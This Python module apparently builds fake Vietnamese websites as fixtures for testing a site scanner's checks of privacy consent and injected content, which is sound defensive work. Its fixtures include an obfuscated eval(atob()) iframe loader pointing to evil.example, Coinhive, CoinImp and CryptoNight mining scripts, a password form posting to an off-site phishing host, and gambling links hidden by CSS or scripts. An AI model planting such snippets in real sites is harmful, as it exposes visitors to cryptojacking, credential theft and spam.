"""Page content of the test world for criteria b and đ: the privacy footer and the content sites.

Every site's home page carries the same footer linking a Vietnamese personal-data policy that
commits to consent, so the certificate and security.txt sites keep differing from ``good`` in one
respect only. The ``content-*`` sites and ``links-listed`` each differ from that clean baseline in
the one content problem they exist to show.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Callable

POLICY_PATH = "/chinh-sach-bao-mat.html"
# Listed by the world's snapshot (tests/world/blocklist.py LISTED_LINK_HOSTS: `*.nha-cai.trustscan.test`);
# bad.example.test is the name agreed in issue 3, linked too in case a snapshot lists it.
LISTED_URL = "https://www.nha-cai.trustscan.test/"
AGREED_LISTED_URL = "https://bad.example.test/"
NEWS_PAGES = 35  # more than the default --max-pages (30): the clean site exercises the page limit

PRIVACY_FOOTER = (
    f'<footer><p>© Cổng thông tin điện tử</p><a href="{POLICY_PATH}">Chính sách bảo mật</a></footer>'
)
POLICY_HTML = (
    "<h1>Chính sách bảo vệ dữ liệu cá nhân</h1>"
    "<p>Chúng tôi chỉ thu thập, lưu trữ và xử lý dữ liệu cá nhân của người sử dụng khi có sự đồng ý "
    "của chủ thể dữ liệu, trừ trường hợp pháp luật quy định khác, theo Nghị định 13/2023/NĐ-CP "
    "về bảo vệ dữ liệu cá nhân.</p><p>Người sử dụng có quyền rút lại sự đồng ý bất cứ lúc nào.</p>"
)
POLICY_WITHOUT_CONSENT_HTML = (
    "<h1>Chính sách bảo mật</h1><p>Chúng tôi sử dụng thông tin để cải thiện dịch vụ và liên hệ "
    "với bạn khi cần thiết.</p>"
)
CONSENT_FORM = (
    '<form action="/lien-he" method="post"><label>Họ và tên <input name="ho_ten"></label>'
    '<label>Email <input type="email" name="email"></label><label>Số điện thoại <input type="tel" name="sdt">'
    '</label><label><input type="checkbox" name="dong_y" required> Tôi đồng ý với '
    f'<a href="{POLICY_PATH}">chính sách bảo vệ dữ liệu cá nhân</a></label><button>Gửi</button></form>'
)
NO_CONSENT_FORM = (
    '<form id="dang-ky" action="/dang-ky" method="post"><input name="ho_ten" placeholder="Họ và tên">'
    '<input type="email" name="email"><input name="cccd" placeholder="Số CCCD">'
    '<input name="dia_chi" placeholder="Địa chỉ"><button>Đăng ký</button></form>'
)
HIDDEN_CASINO_FOOTER = (
    '<div style="position:absolute;left:-9999px;top:-9999px">'
    '<a href="https://nhacai-uytin.example/">nhà cái uy tín</a> '
    '<a href="https://casino-online.example/ca-cuoc">Cá cược bóng đá</a> '
    '<a href="https://taixiu.example/">tài xỉu online</a></div>'
    '<p hidden><a href="https://nohu.example/">Nổ hũ đổi thưởng</a></p>'
)
MALWARE_HOME_EXTRA = (
    '<script>eval(atob("ZG9jdW1lbnQud3JpdGUoJzxpZnJhbWUgc3JjPWh0dHBzOi8vZXZpbC5leGFtcGxlLyc+Jyk="))</script>'
    '<script src="https://coinhive.com/lib/coinhive.min.js"></script>'
    '<script>var miner = new CoinHive.Anonymous("site-key"); miner.start();</script>'
    '<form action="https://phish.example.test/dang-nhap" method="post"><input name="tai_khoan">'
    '<input type="password" name="mat_khau"><button>Đăng nhập</button></form>'
    '<a href="/tin-moi.html">Tin mới</a>'
)
META_REFRESH_PAGE = (
    '<html><head><meta http-equiv="refresh" content="0; url=https://lua-dao.example/"></head>'
    "<body>Đang chuyển trang…</body></html>"
)
TRACKER_HEAD = (
    '<script async src="https://www.googletagmanager.com/gtag/js?id=G-TEST"></script>'
    "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}"
    "gtag('js', new Date());gtag('config','G-TEST');</script>"
)


def page(title: str, body: str, *, head: str = "", charset: str = "utf-8", footer: bool = True) -> str:
    return (f'<!doctype html>\n<html lang="vi"><head><meta charset="{charset}"><title>{title}</title>{head}'
            f"</head><body>{body}{PRIVACY_FOOTER if footer else ''}</body></html>\n")


def encode_windows_1258(text: str) -> bytes:
    """Encode as windows-1258, which writes most tone marks as separate combining characters."""
    out = []
    for char in unicodedata.normalize("NFC", text):
        try:
            out.append(char.encode("cp1258"))
            continue
        except UnicodeEncodeError:
            pass
        parts = unicodedata.normalize("NFD", char)
        tones = "".join(c for c in parts if c in "\u0300\u0301\u0303\u0309\u0323")
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
        out.append((base + tones).encode("cp1258", errors="replace"))
    return b"".join(out)


def _clean(host: str) -> dict[str, bytes]:
    news = "".join(f'<li><a href="/tin-tuc/{i}.html">Tin tức số {i}</a></li>' for i in range(1, NEWS_PAGES + 1))
    files = {"/index.html": page(host, f"<h1>{host}</h1><ul>{news}</ul>{CONSENT_FORM}"),
             POLICY_PATH: page("Chính sách bảo mật", POLICY_HTML)}
    for i in range(1, NEWS_PAGES + 1):
        nav = f'<a href="/">Trang chủ</a> <a href="/tin-tuc/{i % NEWS_PAGES + 1}.html">Tin tiếp theo</a>'
        files[f"/tin-tuc/{i}.html"] = page(f"Tin tức số {i}", f"<p>Nội dung tin {i}.</p>{nav}")
    return {path: text.encode() for path, text in files.items()}


def _spam(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1><p>Trang bị chèn liên kết ẩn.</p>{HIDDEN_CASINO_FOOTER}")
            .encode()}


def _listed(host: str) -> dict[str, bytes]:
    body = (f'<h1>{host}</h1><p>Xem thêm tại <a href="{LISTED_URL}">trang đối tác</a> và '
            f'<a href="{AGREED_LISTED_URL}">trang liên kết</a>.</p>')
    return {"/index.html": page(host, body).encode()}


def _malware(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{MALWARE_HOME_EXTRA}").encode(),
            "/tin-moi.html": META_REFRESH_PAGE.encode()}


def _noconsent(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{NO_CONSENT_FORM}", head=TRACKER_HEAD).encode(),
            POLICY_PATH: page("Chính sách bảo mật", POLICY_WITHOUT_CONSENT_HTML).encode()}


def _windows_1258(host: str) -> dict[str, bytes]:
    # nginx labels every page "charset=utf-8": the page contradicts its header, as often seen in the
    # wild. The policy is linked by its Vietnamese text only (the URL says nothing), so finding it
    # proves the text was decoded. The markup is malformed on purpose (unclosed and stray tags), except
    # the <title>: one left open swallows the whole page in a browser (RCDATA, HTML §13.2.5.2), and so
    # in the crawl's parser, which would then rightly find no policy link at all.
    home = (f'<!doctype html><html lang="vi"><head><meta charset="windows-1258"><title>Sở Giáo dục {host}'
            "</title></head><body><h1>Trang thông tin điện tử<p><b><i>Thông báo tuyển sinh</b></i>"
            "<table><tr><td>Ngày 1/9<td>Khai giảng</table></div></span>"
            '<a href="/cs.html">Chính sách bảo vệ dữ liệu cá nhân</a><a href="/lich.html">Lịch học'
            "<form action=/dang-ky method=post><input name=ho_ten><input type=checkbox name=x> "
            "Tôi đồng ý cho phép xử lý dữ liệu cá nhân</form><!-- unclosed comment")
    policy = (f'<html><head><meta charset="windows-1258"><title>Chính sách</title></head><body>{POLICY_HTML}'
              "</body></html>")
    calendar = '<html><head><meta charset="windows-1258"></head><body><p>Lịch học kỳ I <a href="/">Về trang chủ'
    return {"/index.html": encode_windows_1258(home), "/cs.html": encode_windows_1258(policy),
            "/lich.html": encode_windows_1258(calendar)}


# Injected spam placed after markup nested deeper than the parser's 2048 levels: a browser shows it
# (Blink flattens past 512 levels), libxml2 stops there. The page must not pass: criterion đ says error.
DEEP_NESTING = "<font>" * 2100


def _deep(host: str) -> dict[str, bytes]:
    body = f"<h1>{host}</h1>{PRIVACY_FOOTER}{DEEP_NESTING}{HIDDEN_CASINO_FOOTER}"
    return {"/index.html": page(host, body, footer=False).encode()}


# Issue 10 item 4: links hidden by CSS rules rather than inline styles.
SEO_LINKS = ('<a href="https://nhacai-uytin.example/">nhà cái uy tín</a> '
             '<a href="https://casino-online.example/ca-cuoc">Cá cược bóng đá</a>')
SITE_STYLESHEET = ("body{font-family:Arial;background:#ffffff;color:#222}\n"
                   ".seo-links{position:absolute;left:-9999px;top:-9999px}\n.tin-tuc h2{font-size:18px}\n")
TRAP_STYLESHEET = (
    # The usual legitimate hiding: a screen-reader-only skip link, a dropdown shown on hover, white text on a
    # dark banner. None of it carries gambling links, so none of it may be reported.
    ".sr-only{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)}\n"
    ".submenu{display:none}\n.menu li:hover .submenu{display:block}\n"
    ".banner{background-color:#003366}\n.banner a{color:#ffffff}\n"
)
TRAP_CSS_BODY = (
    '<a class="sr-only" href="#noi-dung">Chuyển đến nội dung chính</a>'
    '<ul class="menu"><li>Dịch vụ<ul class="submenu"><li><a href="/thu-tuc.html">Thủ tục hành chính</a></li>'
    '<li><a href="https://dichvucong.example/">Cổng Dịch vụ công quốc gia</a></li></ul></li></ul>'
    '<div class="banner"><a href="https://baochinhphu.example/">Báo điện tử Chính phủ</a></div>'
    '<p id="noi-dung">Tin tức và thông báo.</p>'
)


def _css_sheet(host: str) -> dict[str, bytes]:
    head = '<link rel="stylesheet" href="/css/giao-dien.css">'
    body = f'<h1>{host}</h1><p>Trang bị chèn liên kết ẩn bằng lớp CSS.</p><div class="seo-links">{SEO_LINKS}</div>'
    return {"/index.html": page(host, body, head=head).encode(), "/css/giao-dien.css": SITE_STYLESHEET.encode()}


def _css_block(host: str) -> dict[str, bytes]:
    # The variant: a <style> block, a descendant selector, and text coloured like the page's background.
    head = "<style>body{background:#fff} #chan-trang .lien-ket a{color:#FFFFFF;text-decoration:none}</style>"
    body = (f'<h1>{host}</h1><div id="chan-trang"><p class="lien-ket">{SEO_LINKS}</p></div>')
    return {"/index.html": page(host, body, head=head).encode()}


def _css_trap(host: str) -> dict[str, bytes]:
    head = '<link rel="stylesheet" href="/css/giao-dien.css">'
    return {"/index.html": page(host, f"<h1>{host}</h1>{TRAP_CSS_BODY}", head=head).encode(),
            "/css/giao-dien.css": TRAP_STYLESHEET.encode()}


# Issue 10 item 9: miners after Coinhive, in a same-site script file and inline.
COINIMP_KEY = "5c3f" * 16
MINER_FILE = (f"(function(){{var _client = new Client.Anonymous('{COINIMP_KEY}', {{throttle: 0.3, c: 'w'}});"
              "_client.start();})();\n")
MINER_INLINE = (
    "<script>var w = new Worker('/js/worker.js'); var hasher = new CryptonightWASMWrapper();"
    'var pool = new WebSocket("wss://ws.supportxmr.example:443/"); pool.onmessage = function(m){w.postMessage(m.data)};'
    "</script>"
)
TRAP_SCRIPT = ("WebAssembly.instantiateStreaming(fetch('/js/pdf.worker.wasm')).then(function(r){window.pdf=r;});\n"
               'var chat = new WebSocket("wss://" + location.host + "/hoi-dap");\n')


def _miner_file(host: str) -> dict[str, bytes]:
    head = '<script src="/js/thong-ke.js"></script>'
    return {"/index.html": page(host, f"<h1>{host}</h1><p>Thống kê truy cập.</p>", head=head).encode(),
            "/js/thong-ke.js": MINER_FILE.encode()}


def _miner_inline(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{MINER_INLINE}").encode()}


def _miner_trap(host: str) -> dict[str, bytes]:
    head = '<script src="/js/app.js"></script>'
    body = (f"<h1>{host}</h1><h2>Giá Monero và Bitcoin hôm nay</h2><p>Đồng Monero (XMR) dùng thuật toán "
            "CryptoNight; cơ quan chức năng cảnh báo mã đào tiền ảo chèn vào trang web.</p>")
    return {"/index.html": page(host, body, head=head).encode(), "/js/app.js": TRAP_SCRIPT.encode()}


# Issue 10 item 3: spam written by inline scripts, not present in the markup itself.
SCRIPT_WRITE = (
    "<script>document.write(\"<div style=\\\"position:absolute;left:-9999px\\\">\" + "
    "\"<a href=\\\"https://nhacai-uytin.example/\\\">nh\\u00e0 c\\u00e1i uy t\\u00edn</a> \" + "
    "\"<a href='https://taixiu.example/'>t\\xe0i x\\u1ec9u online</a></div>\");</script>"
)
SCRIPT_JQUERY = (
    '<style>.an{display:none}</style><div id="chan-trang"></div>'
    "<script>$(function(){$('#chan-trang').append('\\x3cdiv class=\"an\"\\x3e' + "
    "decodeURIComponent('%3Ca%20href%3D%22https%3A//casino-online.example/ca-cuoc%22%3Ec%C3%A1%20c%C6%B0%E1%BB%A3c'"
    " + '%3C/a%3E') + '\\x3c/div\\x3e');});</script>"
)
SCRIPT_TRAP = (
    '<div id="tin-nhanh"></div><span style="display:none" id="dem"></span>'
    "<script>document.write('<a href=\"/lich-cong-tac.html\">L\\u1ecbch c\\u00f4ng t\\u00e1c</a>');"
    "document.getElementById('tin-nhanh').innerHTML = '<a href=\"https://baochinhphu.example/\">Tin Ch\\u00ednh "
    "ph\\u1ee7</a>'; document.getElementById('dem').innerHTML = 'L\\u01b0\\u1ee3t truy c\\u1eadp: ' + count;"
    "</script>"
)


def _script_write(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1><p>Tin tức.</p>{SCRIPT_WRITE}").encode()}


def _script_jquery(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1><p>Tin tức.</p>{SCRIPT_JQUERY}").encode()}


def _script_trap(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{SCRIPT_TRAP}").encode()}


# Issue 10 item 5: whole pages of gambling promotion, and the legitimate pages that speak of gambling.
DOORWAY_PATH = "/uploads/2024/07/tai-lieu.html"
DOORWAY_ID = (
    "<h1>Slot Gacor Hari Ini Gampang Maxwin</h1><p>Situs judi online terpercaya: daftar slot gacor, RTP live "
    "tertinggi, deposit pulsa tanpa potongan. Bandar togel resmi, link alternatif anti rungkad.</p><ul>"
    '<li><a href="https://slot-gacor.example/daftar">Daftar slot gacor</a></li>'
    '<li><a href="https://togel-resmi.example/">Bandar togel</a></li>'
    '<li><a href="https://judi-bola.example/">Judi bola online</a></li></ul>'
)
SPAM_VI_NO_DIACRITICS = (
    "<h2>Nha cai uy tin nhat 2024</h2><p>Soi keo, ty le keo nha cai hom nay, tai xiu online, no hu doi thuong. "
    "Dang ky nhan thuong 100k.</p>"
    '<p><a href="https://fb88-vn.example/">Link vao FB88</a> <a href="https://nhacai-top.example/">Top nha cai</a></p>'
)
POLICE_NEWS = (
    "<h1>Công an triệt phá đường dây cá độ bóng đá qua mạng</h1><p>Công an tỉnh vừa triệt phá đường dây tổ chức "
    "đánh bạc, cá độ bóng đá qua mạng với số tiền hơn 100 tỷ đồng, bắt giữ 12 đối tượng. Cơ quan điều tra đã khởi tố "
    "vụ án, tạm giữ các đối tượng để điều tra về hành vi tổ chức đánh bạc và đánh bạc. Các đối tượng lập nhiều trang "
    "cá độ, nhà cái trái phép để thu hút người chơi.</p>"
    '<p>Nguồn: <a href="https://congan.example/phap-luat/triet-pha-duong-day-ca-do-bong-da">Báo Công an</a></p>'
)
LOTTERY_RESULTS = (
    "<h1>Kết quả xổ số kiến thiết miền Bắc</h1><p>Công ty xổ số kiến thiết thông báo kết quả mở thưởng. Vietlott "
    "Mega 6/45: giải Jackpot trị giá 20 tỷ đồng chưa có người trúng.</p>"
    '<p><a href="https://vietlott.example/vi/trung-thuong/ket-qua-trung-thuong/645">Kết quả Vietlott Mega 6/45 '
    "(jackpot)</a></p>"
)
SPORTS_NEWS = (
    "<h1>Đội tuyển Việt Nam thắng 2-0 ở vòng loại</h1><p>Huấn luyện viên hài lòng với hai bàn thắng; tỷ số 2-0 "
    "giúp đội tuyển dẫn đầu bảng. Lịch thi đấu lượt về được công bố tuần tới.</p>"
    '<p><a href="https://thethao.example/bong-da/ty-le-keo-va-nhan-dinh-luot-ve">Nhận định lượt về</a></p>'
)


def _gambling_doorway(host: str) -> dict[str, bytes]:
    home = page(host, f'<h1>{host}</h1><p><a href="{DOORWAY_PATH}">Tài liệu</a></p>')
    return {"/index.html": home.encode(), DOORWAY_PATH: page("Slot Gacor", DOORWAY_ID, footer=False).encode()}


def _gambling_vi(host: str) -> dict[str, bytes]:
    return {"/index.html": page(host, f"<h1>{host}</h1>{SPAM_VI_NO_DIACRITICS}").encode()}


def _gambling_news(host: str) -> dict[str, bytes]:
    home = page(host, f'<h1>{host}</h1><ul><li><a href="/an-ninh.html">An ninh trật tự</a></li>'
                      '<li><a href="/xo-so.html">Kết quả xổ số</a></li>'
                      '<li><a href="/the-thao.html">Thể thao</a></li></ul>')
    return {"/index.html": home.encode(), "/an-ninh.html": page("An ninh", POLICE_NEWS).encode(),
            "/xo-so.html": page("Xổ số", LOTTERY_RESULTS).encode(),
            "/the-thao.html": page("Thể thao", SPORTS_NEWS).encode()}


#: site name -> (what it shows, its pages); the home page replaces the default one.
CONTENT_SITES: dict[str, tuple[str, Callable[[str], dict[str, bytes]]]] = {
    "content-clean": (f"{NEWS_PAGES + 2} pages, Vietnamese privacy policy with consent, form with consent checkbox",
                      _clean),
    "content-spam": ("hidden casino/betting links injected in the footer", _spam),
    "links-listed": (f"visible link to the listed host {LISTED_URL}", _listed),
    "content-malware": ("eval(atob()) loader, Coinhive miner, password form posting off-site, meta refresh off-site",
                        _malware),
    "content-noconsent": ("personal-data form without consent, policy without consent, Google Analytics", _noconsent),
    "content-1258": ("windows-1258 pages labelled utf-8 by the server, malformed HTML", _windows_1258),
    "content-deep": ("hidden casino links after 2100 unclosed <font> tags, deeper than the parser reads", _deep),
    "content-css-sheet": ("casino links hidden by a class of the site's own stylesheet", _css_sheet),
    "content-css-block": ("casino links coloured like the background by a <style> descendant rule", _css_block),
    "content-css-trap": ("legitimate CSS hiding: screen-reader skip link, hover menu, white text on a dark banner",
                         _css_trap),
    "content-miner-file": ("CoinImp miner in a same-site script file", _miner_file),
    "content-miner-inline": ("inline WebAssembly CryptoNight worker talking to a pool over WebSocket", _miner_inline),
    "content-miner-trap": ("legitimate WebAssembly and WebSocket, news about Monero", _miner_trap),
    "content-script-write": ("casino links written off-screen by document.write with \\u escapes", _script_write),
    "content-script-jquery": ("casino link appended by jQuery into a hidden class, percent-encoded", _script_jquery),
    "content-gambling-doorway": ("an Indonesian 'slot gacor' doorway page in an upload folder", _gambling_doorway),
    "content-gambling-vi": ("Vietnamese betting spam written without diacritics, visible, with off-site links",
                            _gambling_vi),
    "content-gambling-news": ("police news about a betting ring, lottery results, sports news", _gambling_news),
    "content-script-trap": ("scripts writing a visible menu link, a news ticker and a hidden visit counter",
                            _script_trap),
}


def content_files(name: str, host: str) -> dict[str, bytes]:
    """The extra (or replacing) files of a site: the policy page for every site, more for content sites."""
    files = {POLICY_PATH: page("Chính sách bảo mật", POLICY_HTML).encode()}
    if name in CONTENT_SITES:
        files.update(CONTENT_SITES[name][1](host))
    return files
